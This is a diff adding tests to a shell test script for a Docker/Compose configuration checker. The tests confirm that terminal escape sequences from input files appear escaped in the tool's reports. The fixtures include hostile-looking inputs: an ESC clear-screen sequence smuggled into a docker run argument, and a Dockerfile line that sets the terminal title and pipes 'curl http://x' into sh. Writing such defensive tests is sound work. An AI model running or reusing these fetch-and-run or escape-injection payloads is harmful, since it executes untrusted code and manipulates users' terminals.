@@ -88,6 +88,15 @@ has '... is reported, not counted as a profile' "$tmp/out" 'AppArmor annotation 
 printf 'services:\n  a:\n    image: x:1\n    depends_on: [b]\n  b:\n    image: x:1\n    depends_on:\n      a: {condition: service_started}\n' > "$tmp/dep.yml"
 t 'a depends_on cycle is refused, as Compose does' 2 "$bin" check "$tmp/dep.yml"
 has '... naming the services' "$tmp/out" 'depends_on cycle: b depends on a'
+# text output never sends a control character from the input to the terminal
+printf 'docker run --cap-add "FOO\033[2J" img:1.0\n' > "$tmp/esc.sh"
+t 'a docker run value holding ESC' 2 "$bin" check "$tmp/esc.sh"
+if grep -q "$(printf '\033')" "$tmp/out"; then echo "FAIL check: an ESC from the input reached the text report raw"
+else has '... is shown escaped in the error' "$tmp/out" 'FOO\\x1b\[2J'; fi
+printf 'FROM alpine:3.20\nRUN echo "\033]0;pwned\007" && curl http://x | sh\n' > "$tmp/esc.df"
+t 'a Dockerfile line holding a title-setting sequence' 1 "$bin" lint "$tmp/esc.df"
+if grep -q "$(printf '\033')" "$tmp/out"; then echo "FAIL check: an ESC from a Dockerfile reached the lint report raw"
+else has '... is shown escaped in the source line' "$tmp/out" '\\x1b\]0;pwned\\x07'; fi
 t 'a missing file is an input error' 2 "$bin" check "$tmp/nope.yml"
 printf 'services:\n  a:\n    image: x\n\0' > "$tmp/bin.yml"
 t 'a binary file is refused' 2 "$bin" check "$tmp/bin.yml"
